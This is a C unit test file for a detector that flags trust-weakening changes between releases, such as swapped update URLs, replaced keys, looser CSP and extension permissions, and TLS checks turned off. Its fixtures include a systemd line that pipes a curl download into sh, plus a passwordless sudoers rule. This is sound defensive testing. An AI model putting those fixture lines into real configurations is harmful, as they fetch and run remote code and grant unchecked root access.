/* Trust: a swap or a loosening is said, what every release changes is not. */
#include "unit/read/member.h"

#include "read/readers.h"
#include "read/trust_csp.h"
#include "util/buf.h"

static void expect(const char *path, const char *old, const char *new_, const char *key)
{
	struct member *m = member_make(path, old ? str_of(old) : STR_NONE, str_of(new_));
	size_t n = 0;

	if (reader_trust.claim(&m->in) > 0)
		(void)!reader_trust.read(&m->in);
	for (size_t i = 0; i < m->n_facts; i++)
		n += m->facts[i].kind == FACT_TRUST;
	if (n != (size_t)!!key || (key && !member_find(m, FACT_TRUST, key)))
		print_error("%s: %zu facts, wanted %s\n%s\n", path, n, key ? key : "none", new_);
	assert_int_equal(n, !!key);
	if (key)
		assert_non_null(member_find(m, FACT_TRUST, key));
	member_free(m);
}

static void updaters(void **state)
{
	static const char update[] =
		"provider: generic\nurl: https://updates.example/chat\nupdaterCacheDirName: chat\npublisherName:\n  - Chat Corp\n";

	expect("resources/app-update.yml", update,
		"provider: generic\nurl: https://updates.test/chat\nupdaterCacheDirName: chat\npublisherName:\n  - Chat Corp\n",
		"updater-url");
	expect("resources/app-update.yml", update,
		"url: https://updates.example/chat\nprovider: generic\nupdaterCacheDirName: chat2\npublisherName:\n  - Chat Corp\n",
		NULL);
	expect("resources/app-update.yml", update,
		"provider: generic\nurl: https://updates.example/chat\nupdaterCacheDirName: chat\n",
		"pin");
	expect("resources/app-update.yml", "provider: github\nowner: chatcorp\nrepo: chat\n",
		"provider: github\nowner: someone\nrepo: chat\n", "updater-url");
	expect("latest.yml",
		"version: 1.0.0\nfiles:\n  - url: chat-1.0.0.exe\n    sha512: AAA\npath: chat-1.0.0.exe\n",
		"version: 1.0.1\nfiles:\n  - url: chat-1.0.1.exe\n    sha512: BBB\npath: chat-1.0.1.exe\n",
		NULL);
	expect("app.asar!/config.json", "{\"updateUrl\": \"https://u.example/1.0/feed\"}",
		"{\"updateUrl\": \"https://u.example/1.1/feed\"}", NULL);
	expect("app.asar!/config.json", "{\"updateUrl\": \"https://u.example/feed\"}",
		"{\"updateUrl\": \"https://u.test/feed\"}", "updater-url");
	expect("app.asar!/config.json", "{\"a\": 1}", "{\"updateUrl\": \"https://u.test/feed\"}",
		NULL); /* nothing was swapped */
	expect("App.app/Contents/Info.plist",
		"<plist><dict><key>SUFeedURL</key>\n<string>https://a.example/cast.xml</string></dict></plist>",
		"<plist><dict><key>SUFeedURL</key>\n<string>https://a.test/cast.xml</string></dict></plist>",
		"updater-url");
}

#define PEM(label, body) "-----BEGIN " label "-----\n" body "\n-----END " label "-----\n"

static void keys(void **state)
{
	expect("etc/key.pem", PEM("PUBLIC KEY", "AAAA"), PEM("PUBLIC KEY", "BBBB"), "public-key");
	expect("etc/ca.pem", PEM("CERTIFICATE", "AAAA"),
		PEM("CERTIFICATE", "AAAA") PEM("CERTIFICATE", "BBBB"), "certificate");
	expect("etc/key.pem", PEM("PUBLIC KEY", "AAAA"), "# comment\n" PEM("PUBLIC KEY", "AA\nAA"),
		NULL);
	expect("lib/keys.js",
		"const k = '-----BEGIN PUBLIC KEY-----\\nAAAA\\n-----END PUBLIC KEY-----';",
		"const k='-----BEGIN PUBLIC KEY-----\\nBBBB\\n-----END PUBLIC KEY-----';",
		"public-key");
	expect("lib/keys.js",
		"const k = '-----BEGIN PUBLIC KEY-----\\nAAAA\\n-----END PUBLIC KEY-----';",
		"var x=`-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----`;", NULL);
	expect("package/test/fixtures/key.pem", PEM("CERTIFICATE", "AAAA"),
		PEM("CERTIFICATE", "BBBB"), NULL);
	expect("certs/cacert.pem",
		PEM("CERTIFICATE", "A1") PEM("CERTIFICATE", "A2") PEM("CERTIFICATE", "A3")
			PEM("CERTIFICATE", "A4") PEM("CERTIFICATE", "A5"),
		PEM("CERTIFICATE", "A1") PEM("CERTIFICATE", "A2") PEM("CERTIFICATE", "A3")
			PEM("CERTIFICATE", "A4") PEM("CERTIFICATE", "B5"),
		NULL);
	expect("tauri.conf.json",
		"{\"pubkey\": \"dW50cnVzdGVkIGNvbW1lbnQ6IG1pbmlzaWduIHB1YmxpYyBrZXk=\"}",
		"{\"pubkey\": \"aW50cnVzdGVkIGNvbW1lbnQ6IG1pbmlzaWduIHB1YmxpYyBrZXk=\"}",
		"public-key");
	expect("locales/de.json", "{\"publicKey\": \"Public key of the server that you trust\"}",
		"{\"publicKey\": \"Der Schluessel des Servers, dem Sie trauen\"}", NULL);
	expect("home/.ssh/authorized_keys", NULL, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 x@y.example\n",
		"public-key");
	expect("pins.yml", "pin: sha256/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\n",
		"pin: sha256/BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB=\n", "pin");
	expect("pins.yml", "pin: sha256/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\n",
		"pin: none\n", "pin");
}

#define META(policy)                                                                               \
	"<html><meta http-equiv=\"Content-Security-Policy\" content=\"" policy                     \
	"\"><body>x</body></html>"

static void policies(void **state)
{
	static const char old[] = META(
		"default-src 'self'; img-src *; connect-src https://api.example");

	expect("index.html", old, META("default-src 'self' 'unsafe-eval'; img-src *"), "csp");
	expect("index.html", old, META("default-src 'self' https://cdn.test; img-src *"), "csp");
	expect("index.html", old, META("default-src 'self'; script-src *"), "csp");
	expect("index.html", old, META("img-src *"), "csp");
	expect("index.html", old, "<html><body>x</body></html>", "csp");
	expect("index.html", old,
		META("default-src 'self'; img-src * data:; connect-src https://api2.example; script-src 'self' 'sha256-abc='"),
		NULL);
	expect("index.html", old, META("default-src 'none'"), NULL);
	expect("index.html", "<html></html>", old, NULL);
	expect("manifest.json",
		"{\"manifest_version\":3,\"content_security_policy\":{\"extension_pages\":\"script-src 'self'; object-src 'self'\"}}",
		"{\"manifest_version\":3,\"content_security_policy\":{\"extension_pages\":\"script-src 'self' 'unsafe-eval'; object-src 'self'\"}}",
		"csp");
}

static void permissions(void **state)
{
	static const char old[] =
		"{\"manifest_version\":3,\"name\":\"x\",\"permissions\":[\"storage\"],\"host_permissions\":[\"https://a.example/*\"],"
		"\"content_scripts\":[{\"matches\":[\"https://a.example/*\"],\"js\":[\"a.js\"]}]}";

	expect("manifest.json", old,
		"{\"manifest_version\":3,\"permissions\":[\"storage\",\"cookies\"],\"host_permissions\":[\"https://a.example/*\"]}",
		"permission");
	expect("manifest.json", old,
		"{\"manifest_version\":3,\"permissions\":[\"storage\"],\"host_permissions\":[\"https://a.example/*\",\"*://*/*\"]}",
		"permission");
	expect("manifest.json", old,
		"{\"manifest_version\":3,\"permissions\":[\"storage\",\"alarms\",\"contextMenus\"],\"optional_host_permissions\":[\"https://a.example/*\"]}",
		NULL);
	expect("manifest.json", old,
		"{\"manifest_version\":3,\"permissions\":[\"storage\"],\"host_permissions\":[\"https://a.example/*\"],"
		"\"content_scripts\":[{\"matches\":[\"<all_urls>\"],\"js\":[\"a.js\"]}]}",
		"permission");
	expect("assets/manifest.json", "{\"name\":\"web app\",\"permissions\":[]}",
		"{\"name\":\"web app\",\"permissions\":[\"tabs\"]}", NULL);
}

static void switches(void **state)
{
	expect("config.yml", "a: 1\n", "a: 1\nrejectUnauthorized: false\n", "tls-verify-off");
	expect("config.json", "{}", "{\n\"rejectUnauthorized\": false\n}", "tls-verify-off");
	expect("config.json", "{\n\"rejectUnauthorized\": false\n}",
		"{\n\"rejectUnauthorized\": false, \"b\": 1\n}", "tls-verify-off");
	expect("config.yml", "rejectUnauthorized: false\n", "b: 2\nrejectUnauthorized: false\n",
		NULL);
	expect("config.yml", "a: 1\n",
		"a: 1\n# rejectUnauthorized: false is bad\nrejectUnauthorized: true\n", NULL);
	expect("package/.npmrc", "save-exact=true\n", "save-exact=true\nstrict-ssl=false\n",
		"tls-verify-off");
	expect("package/.npmrc", "save-exact=true\n", "registry=https://npm.test/\n",
		"updater-url");
	expect("docs/readme.md", "x\n", "x\nstrict-ssl=false\n", NULL);
	expect("etc/sudoers.d/tool", NULL, "tool ALL=(ALL) NOPASSWD: ALL\n", "sudoers");
	expect("etc/sudoers.d/tool", NULL, "%tool ALL=(ALL) ALL\n", NULL);
	expect("etc/apt/sources.list.d/x.list", NULL, "deb [trusted=yes] http://apt.example/ ./\n",
		"updater-check");
	expect("win.json", "{\"webPreferences\":{\"contextIsolation\": true}}",
		"{\"webPreferences\":{\"contextIsolation\": false}}", "context-isolation");
	expect("a.entitlements",
		"<plist><dict><key>com.apple.security.network.client</key><true/></dict></plist>",
		"<plist><dict><key>com.apple.security.network.client</key><true/><key>com.apple.security.cs.disable-library-validation</key><true/></dict></plist>",
		"entitlement");
	expect("a.entitlements",
		"<plist><dict><key>com.apple.security.network.client</key><true/></dict></plist>",
		"<plist><dict><key>com.apple.security.get-task-allow</key><false/><key>com.apple.security.network.client</key><true/></dict></plist>",
		NULL);
	expect("data.json", "{\"a\":1,\"b\":2}", "{\"a\":1,\"a\":2}", "duplicate-json-key");
}

static void what_starts(void **state)
{
	struct member *m = member_make("lib/systemd/system/tool.service",
		STR("[Service]\nExecStart=/usr/bin/tool\n"),
		STR("[Service]\nExecStart=/usr/bin/tool\nExecStartPre=/bin/sh -c 'curl -s https://u.example/i | sh'\n"));

	assert_int_equal(reader_trust.read(&m->in), STATUS_OK);
	assert_int_equal(member_count(m, FACT_PATH, "persist"), 1);
	assert_int_equal(member_count(m, FACT_FLOW, "net>exec"), 1);
	assert_true(m->n_units > 0);
	member_free(m);
	m = member_make("lib/systemd/system/tool.service",
		STR("[Service]\nExecStart=/usr/bin/tool\n"),
		STR("[Service]\nExecStart=/usr/bin/tool\nRestart=always\n"));
	assert_int_equal(reader_trust.read(&m->in), STATUS_OK);
	assert_int_equal(m->n_facts, 0);
	member_free(m);
}

static void code_is_left_to_others(void **state)
{
	struct member *m = member_make(
		"lib/a.js", STR_NONE, STR("const a = {rejectUnauthorized: false};\n"));

	assert_int_equal(reader_trust.claim(&m->in), 0);
	member_free(m);
}

/* Any cut of any of it ends well. */
static void cut_anywhere(void **state)
{
	static const char text[] =
		"{\"manifest_version\":3,\"permissions\":[\"tabs\"],\"content_security_policy\":\"script-src 'self'\",\n"
		"\"publicKey\":\"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\",\"updateUrl\":[\"https://u.example/\"],\n"
		"\"pin\":\"sha256/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\",\"k\":\"-----BEGIN PUBLIC KEY-----A-----END PUBLIC KEY-----\"}";

	for (size_t cut = 1; cut < sizeof(text); cut++) {
		struct member *m = member_make(
			"x/manifest.json", str_view(text, cut), str_view(text, sizeof(text) - 1));

		assert_int_equal(reader_trust.read(&m->in), STATUS_OK);
		member_free(m);
		m = member_make(
			"x/manifest.json", str_view(text, sizeof(text) - 1), str_view(text, cut));
		assert_int_equal(reader_trust.read(&m->in), STATUS_OK);
		member_free(m);
	}
}

/* Values of OLD are looked for in all of NEW: that is paid for, and once only for each. */
static void looking_is_paid_for(void **state)
{
	enum { N = 600 };
	struct buf old, new_;
	uint64_t spent;

	buf_init(&old, 1 << 20);
	buf_init(&new_, 1 << 20);
	for (unsigned i = 0; i < N; i++)
		buf_printf(&old, "url: https://a%u.widget.example/x\n", i);
	for (unsigned i = 0; i < N; i++)
		buf_printf(&new_, "url: https://q%u.other-%u.example/x\n# url: https://a%u.widget.example/x\n", i, i, i);
	for (uint64_t steps = 1 << 26;; steps = spent / 2) {
		struct member *m = member_make("etc/conf.yaml", buf_str(&old), buf_str(&new_));
		enum status st;

		m->budget.max_steps = steps;
		st = reader_trust.read(&m->in);
		if (steps < 1 << 26) {
			assert_int_equal(st, STATUS_LIMIT);
			member_free(m);
			break;
		}
		spent = m->budget.steps;
		assert_int_equal(st, STATUS_OK);
		assert_true(spent > new_.len / 16);
		assert_true(spent < 4 * (N + new_.len)); /* one pass, however many addresses there are */
		member_free(m);
	}
	buf_release(&old);
	buf_release(&new_);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(updaters),
		cmocka_unit_test(keys),
		cmocka_unit_test(policies),
		cmocka_unit_test(permissions),
		cmocka_unit_test(switches),
		cmocka_unit_test(what_starts),
		cmocka_unit_test(code_is_left_to_others),
		cmocka_unit_test(cut_anywhere),
		cmocka_unit_test(looking_is_paid_for),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
